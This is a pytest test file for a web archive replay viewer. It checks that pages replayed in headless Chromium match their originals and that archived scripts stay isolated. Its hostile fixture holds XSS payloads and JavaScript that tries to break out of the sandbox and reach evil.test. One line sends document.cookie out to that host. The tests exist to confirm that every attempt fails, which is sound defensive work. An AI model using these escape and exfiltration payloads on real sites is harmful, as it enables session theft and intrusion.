"""Headless Chromium looks at archives through `serve`: pages look as they did, and nothing gets out."""

from __future__ import annotations

import asyncio
import io
import json
import sys
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from PIL import Image, ImageChops

from crawler.demo.server import DemoServer
from tests.support.chromium import Browser, chromium
from tests.support.looking import AT, Exchange, Looker, archive, looking
from tests.support.nginx import nginx
from tests.support.programs import require_program, require_python_docs
from tests.support.tab import Page

CRAWL_SECONDS = 60
SIZE = (1280, 800)
LOOK = """new Promise(done => { const frame = document.querySelector('iframe').getBoundingClientRect();
  done([frame.left, frame.top, frame.width, frame.height]); })"""


async def crawl(*words: str, directory: Path) -> Path:
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "crawler", *words, "--output", str(directory), "--min-free-disk", "1M",
        stdin=asyncio.subprocess.DEVNULL, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    async with asyncio.timeout(CRAWL_SECONDS):
        told, _ = await process.communicate()
    assert process.returncode == 0, told.decode("utf-8", "replace")
    return directory


async def shown(page: Page) -> None:
    """Waits until the frame has said that its document is whole, and all that belongs to it has come."""
    for _ in range(400):
        if await page.evaluate("document.querySelector('iframe').getAttribute('aria-busy')") == "false":
            return await page.settled(idle=0.3)
        await asyncio.sleep(0.05)
    pytest.fail(f"the frame stayed busy: {page.requests} {page.console}")


async def said(page: Page, words: str) -> None:
    """Waits until a script in the frame has written `words` to the console."""
    for _ in range(400):
        if any(words in line for line in page.console):
            return
        await asyncio.sleep(0.05)
    pytest.fail(f"nothing said {words!r}: {page.console} {page.requests}")


async def replayed(browser: Browser, looker: Looker, url: str) -> tuple[Image.Image, list[str]]:
    """What the frame of the application shows of a capture, and what was asked for."""
    page = await browser.blank(width=SIZE[0], height=SIZE[1])
    await page.goto(f"{looker.app}/view/{url}")
    await shown(page)
    left, top, width, height = await page.evaluate(LOOK)
    shot = Image.open(io.BytesIO(await page.screenshot())).convert("RGB")
    await page.close()
    return shot.crop((round(left), round(top), round(left + width), round(top + height))), page.urls


async def original(browser: Browser, url: str, size: tuple[int, int]) -> Image.Image:
    page = await browser.blank(width=size[0], height=size[1])
    await page.goto(url, idle=0.5)
    shot = Image.open(io.BytesIO(await page.screenshot())).convert("RGB")
    await page.close()
    return shot


def difference(one: Image.Image, other: Image.Image) -> float:
    """The share of pixels that differ visibly: by more than a shade, which edges of letters may."""
    assert one.size == other.size
    bands = ImageChops.difference(one, other).split()
    most = ImageChops.lighter(ImageChops.lighter(bands[0], bands[1]), bands[2])
    differing = most.point([0] * 48 + [255] * 208)
    return differing.histogram()[255] / (one.size[0] * one.size[1])


@asynccontextmanager
async def both(directory: Path, names: dict[str, int]) -> AsyncIterator[tuple[Browser, Looker]]:
    async with looking(directory) as looker, chromium(names=names) as browser:
        yield browser, looker


async def compare(browser: Browser, looker: Looker, urls: Sequence[str], place: Path) -> None:
    for number, url in enumerate(urls):
        now, asked = await replayed(browser, looker, url)
        was = await original(browser, url, now.size)
        share = difference(now, was)
        if share > 0.002:
            now.save(place / f"{number}-replayed.png")
            was.save(place / f"{number}-original.png")
        assert share <= 0.002, f"{url}: {share:.1%} of the pixels differ, see {place}"
        own = (looker.app, looker.replay)
        assert [each for each in asked if not each.startswith(own)] == []
        assert len(was.getcolors(1 << 20) or ()) > 20, "an empty page proves nothing"


async def test_the_demonstration_site_looks_as_it_did(tmp_path: Path) -> None:
    directory = await crawl("--demo", "--delay", "0", "--exclude", "/(slow|flaky)", directory=tmp_path / "crawl")
    names = ("images.html", "styles.html", "frames.html", "latin.html", "chain/1")
    async with DemoServer() as server, both(directory, {"demo.test": server.port}) as (browser, looker):
        await compare(browser, looker, [f"http://demo.test/{name}" for name in names], tmp_path)
        await follow_a_link_to_another_frame(browser, looker)
        assert browser.escapes == []


async def follow_a_link_to_another_frame(browser: Browser, looker: Looker) -> None:
    """A sandboxed frame may not move its neighbour; replay asks the neighbour to go."""
    page = await browser.blank()
    await page.goto(f"{looker.app}/view/http://demo.test/frames.html")
    await shown(page)
    before = len(page.requests)
    left, top, _, _ = await page.evaluate(LOOK)
    for kind in ("mousePressed", "mouseReleased"):  # the link `View` of the menu, meant for the frame beside it
        place = {"x": left + 64, "y": top + 133}
        await page.send("Input.dispatchMouseEvent", type=kind, button="left", clickCount=1, **place)
    await page.settled(idle=0.5)
    asked = [each.url for each in page.requests[before:]]
    assert any(url.endswith("/http://demo.test/frames/view.html") for url in asked), asked
    await page.close()


async def test_the_documentation_of_python_looks_as_it_did(tmp_path: Path) -> None:
    docs = require_python_docs()
    home = tmp_path / "nginx"
    home.mkdir()
    with nginx(require_program("nginx"), docs, home, gzip=True) as server:
        words = (f"{server.url}tutorial/index.html", "--scope", "prefix", "--max-pages", "6", "--delay", "0")
        directory = await crawl(*words, "--no-sitemaps", "--allow-private", directory=tmp_path / "crawl")
        async with both(directory, {}) as (browser, looker):
            lines = (await looker.get(f"/cdx?url={server.url}tutorial/*&output=json&filter==mime:text/html")).text
            held = [json.loads(line)["url"] for line in lines.splitlines()]
            assert len(held) >= 4
            await compare(browser, looker, [f"{server.url}tutorial/index.html", *held[:2]], tmp_path)
            assert browser.escapes == []


HOSTILE = """<!doctype html><html><head><title></title><script>top.owned = 1</script></title>
<meta http-equiv=refresh content="9;url=//evil.test/refresh"><link rel=preconnect href=//evil.test>
<link rel=prefetch href=//evil.test/prefetch><link rel=stylesheet href=//evil.test/style.css></head><body>
<img src=//evil.test/picture><iframe src=//evil.test/frame></iframe><a id=out href="//evil.test/link" target=_top>x</a>
<form id=form action="//evil.test/form" target=_top method=post><input name=secret value=1></form>
<script>
const tell = (name, outcome) => console.log("OUTCOME " + name + ": " + outcome);
const app = location.ancestorOrigins[0];
const tried = {
  "read the application": () => parent.document.title,
  "ask the application": () => fetch(app + "/missing").then(answer => { if (!answer.ok) throw answer.status; }),
  "ask the live web": () => fetch("//evil.test/fetch").then(answer => { if (!answer.ok) throw answer.status; }),
  "lead the window away": () => { top.location = "http://evil.test/top"; },
  "register a worker": () => ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, "sw.js"),
  "open a socket": () => new Promise((done, fail) => {
    const s = new WebSocket("ws://evil.test/"); s.onopen = done; s.onerror = fail; }),
  "import a module": () => { const away = "//evil.test/module.js"; return import(away); },
};
const fresh = document.createElement("iframe");
document.body.append(fresh);
const clean = fresh.contentWindow;
Object.assign(tried, {
  "ask from a fresh frame": () => clean.fetch("http://evil.test/fresh"),
  "ask the application from there": () => clean.fetch(app + "/").then(answer => answer.text()),
  "show a picture from there": () => new Promise((done, fail) => { const image = new clean.Image();
    image.onload = done; image.onerror = fail; image.src = "http://evil.test/image"; }),
  "send a beacon from there": () => { if (!clean.navigator.sendBeacon("http://evil.test/beacon")) throw "none"; },
  "lead the window away from there": () => clean.eval('top.location = "http://evil.test/fresh-top"'),
  "open a window from there": () => { if (!clean.open("http://evil.test/fresh-open")) throw "none"; },
});
const rules = document.createElement("script");
rules.type = "speculationrules";
rules.textContent = '{"prefetch": [{"source": "list", "urls": ["http://evil.test/speculation"]}]}';
document.head.append(rules);
const hint = document.createElement("link");
hint.rel = "prefetch"; hint.href = "http://evil.test/hint"; document.head.append(hint);
(async () => {
  for (const [name, attempt] of Object.entries(tried)) {
    const patience = new Promise((_, fail) => setTimeout(fail, 500, "no answer"));
    try { await Promise.race([attempt(), patience]); tell(name, "DONE"); } catch (error) { tell(name, "refused"); }
  }
  parent.postMessage({replay: {url: "javascript:alert(1)", title: "<img src=x onerror=owned=1>"}}, "*");
  document.getElementById("form").submit();
  document.getElementById("out").click();
  const away = document.createElement("iframe");
  document.body.append(away);
  away.contentWindow.location = "http://evil.test/inner";
  tell("end", "reached");
  setTimeout(() => { clean.eval('parent.location = "http://evil.test/self?" + document.cookie'); }, 50);
})();
</script></body></html>"""
URL = 'http://hostile.test/?"><script>top.owned=1</script>'
MARKUP = '"><script>top.owned=1</script><img src=x onerror=top.owned=1>'


@pytest.fixture
async def hostile(tmp_path: Path) -> Path:
    body = HOSTILE.replace("AT", AT)
    fields = [f"X-Odd: {MARKUP}", "Link: <//evil.test/preload>; rel=preload; as=image", "Refresh: 9;url=//evil.test/r"]
    links = [f"http://hostile.test/{MARKUP.replace(' ', '%20')} E {MARKUP}", "javascript:top.owned=1 L a/@href"]
    exchanges = [
        Exchange("http://hostile.test/", body.encode(), headers=fields, outlinks=links, metadata={"via": MARKUP}),
        Exchange(URL, f"<title>{MARKUP.replace('<', '&lt;')}</title>{MARKUP}".encode(), type=f"text/html; {MARKUP}"),
        Exchange("http://hostile.test/sw.js", b"self.onfetch = () => {}", "text/javascript"),
        Exchange("http://hostile.test/odd", MARKUP.encode(), type=MARKUP),
        Exchange("http://hostile.test/dead", answered=False, metadata={"failure": "x", "reason": MARKUP}),
    ]
    return await archive(tmp_path / "crawl", exchanges)


async def test_an_archived_script_gets_nothing_and_reaches_nobody(hostile: Path) -> None:
    async with both(hostile, {}) as (browser, looker):
        segment = next((hostile / "archive").iterdir())
        page = await browser.blank()
        await page.send("Page.navigate", url=f"{looker.app}/view/{AT}/http://hostile.test/")
        await said(page, "OUTCOME end")
        await asyncio.sleep(1)  # for what would leave, which nothing tells of
        outcomes = [line for line in page.console if line.startswith("OUTCOME")]
        assert len(outcomes) == 14
        assert [
            line
            for line in outcomes
            if line.endswith("DONE") and "lead the window" not in line and "beacon" not in line
        ] == []
        assert await page.evaluate("location.href") == f"{looker.app}/view/{AT}/http://hostile.test/"
        assert await page.evaluate("typeof window.owned") == "undefined"
        assert "javascript" not in await page.evaluate("document.body.innerText")
        assert segment.exists()
        targets = await browser.connection.send("Target.getTargets")
        assert [
            each["url"] for each in targets["targetInfos"] if "evil.test" in each["url"] and each["type"] == "page"
        ] == []
        await page.close()
        assert browser.escapes == []


async def test_no_archived_byte_runs_in_the_application(hostile: Path) -> None:
    async with both(hostile, {}) as (browser, looker):
        lines = (await looker.get("/cdx?url=hostile.test/*&output=json")).text.splitlines()
        captures = [json.loads(line) for line in lines]
        assert len(captures) == 4
        details = [f"/capture/{each['filename']}/{each['offset']}" for each in captures]
        places = [
            "/?kind=all",
            "/?q=onerror",
            "/?q=hostile.test",
            "/missing",
            "/url?url=http://hostile.test/",
            *details,
        ]
        for place in places:
            page = await browser.open(looker.app + place)
            assert await page.evaluate("typeof window.owned") == "undefined", place
            assert (
                await page.evaluate("document.querySelectorAll('script:not([src]), main img, [onerror]').length") == 0
            ), place
            assert await page.evaluate("[...document.links].filter(a => a.protocol === 'javascript:').length") == 0, (
                place
            )
            assert [each for each in page.urls if not each.startswith(looker.app)] == [], place
            await page.close()
        assert browser.escapes == []


RUNNING = """<!doctype html><title>before</title><div id=box></div><script type=module>
import {word} from "/lib/word.js";
const found = await Promise.all([
  fetch("/data.json").then(answer => answer.json()).then(value => value.word),
  fetch("http://site.test/data.json").then(answer => answer.json()).then(value => value.word),
  new Promise(done => { const x = new XMLHttpRequest(); x.open("GET", "http://site.test/data.json");
    x.onload = () => done(JSON.parse(x.response).word); x.send(); }),
  import("/lib/word.js").then(module => module.word),
  new Promise(done => { const w = new Worker("/worker.js"); w.onmessage = event => done(event.data); }),
  new Promise((done, fail) => { const i = new Image(); i.onload = () => done("image"); i.onerror = fail;
    i.src = "http://site.test/dot.svg"; }),
  new Promise((done, fail) => { document.getElementById("box").innerHTML = "<img id=in src='http://site.test/dot.svg'>";
    const i = document.getElementById("in"); i.addEventListener("load", () => done("markup")); }),
  word,
]);
console.log("FOUND " + found.join(" "));
</script>"""


async def test_what_scripts_ask_for_at_run_time_comes_from_the_archive(tmp_path: Path) -> None:
    script = "text/javascript"
    dot = b'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>'
    directory = await archive(
        tmp_path / "crawl",
        [
            Exchange("http://site.test/app/page?x=1", RUNNING.encode()),
            Exchange("http://site.test/lib/word.js", b"import {w} from './w.js'; export const word = w;", script),
            Exchange("http://site.test/lib/w.js", b"export const w = 'module';", script),
            Exchange("http://site.test/data.json", b'{"word": "data"}', "application/json"),
            Exchange("http://site.test/worker.js", b"importScripts('/lib/x.js'); postMessage(x)", script),
            Exchange("http://site.test/lib/x.js", b"var x = 'worker'", script),
            Exchange("http://site.test/dot.svg", dot, "image/svg+xml"),
        ],
    )
    async with both(directory, {}) as (browser, looker):
        page = await browser.blank()
        await page.goto(f"{looker.app}/view/{AT}/http://site.test/app/page?x=1", idle=0.3)
        await said(page, "FOUND")
        assert "FOUND data data data module worker image markup module" in page.console
        assert await page.evaluate("document.getElementById('address').textContent") == "http://site.test/app/page?x=1"
        await page.close()
        assert browser.escapes == []


async def test_a_page_finds_no_webrtc(tmp_path: Path) -> None:
    """No policy of browsers forbids it; a script that is made for this replay can still find it in a fresh frame."""
    body = b"<script>console.log('RTC ' + [typeof RTCPeerConnection, typeof WebTransport])</script>"
    directory = await archive(tmp_path / "crawl", [Exchange("http://rtc.test/", body)])
    async with both(directory, {}) as (browser, looker):
        page = await browser.blank()
        await page.goto(f"{looker.app}/view/{AT}/http://rtc.test/")
        await said(page, "RTC")
        assert "RTC undefined,undefined" in page.console
        await page.close()
